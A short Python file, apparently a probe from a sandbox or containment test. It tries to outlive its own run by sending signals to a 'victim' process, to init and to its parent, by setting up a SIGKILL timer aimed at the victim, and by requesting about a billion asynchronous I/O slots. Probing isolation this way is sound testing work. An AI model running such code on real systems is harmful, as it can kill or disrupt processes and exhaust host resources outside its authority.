"""Has the kernel work for it after its end: timers, asynchronous input and output, owners of signals, splices."""

import ctypes
import fcntl
import os
import signal


def f(world):
    libc = ctypes.CDLL(None, use_errno=True)
    end, other = os.pipe()
    for pid in (world.victim, 1, os.getppid()):
        try:
            fcntl.fcntl(end, fcntl.F_SETOWN, pid)
            fcntl.fcntl(end, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
            fcntl.fcntl(end, 10, signal.SIGWINCH)  # F_SETSIG
            os.write(other, b"x")
        except OSError:
            continue
    event = (ctypes.c_int * 16)()
    event[2], event[3], event[4] = signal.SIGKILL, 4, world.victim  # SIGEV_THREAD_ID
    timer = ctypes.c_void_p()
    libc.timer_create(0, event, ctypes.byref(timer))
    context = ctypes.c_ulong()
    if libc.syscall(206, 1 << 30, ctypes.byref(context)) == 0:
        print("HARM may queue a thousand million requests")
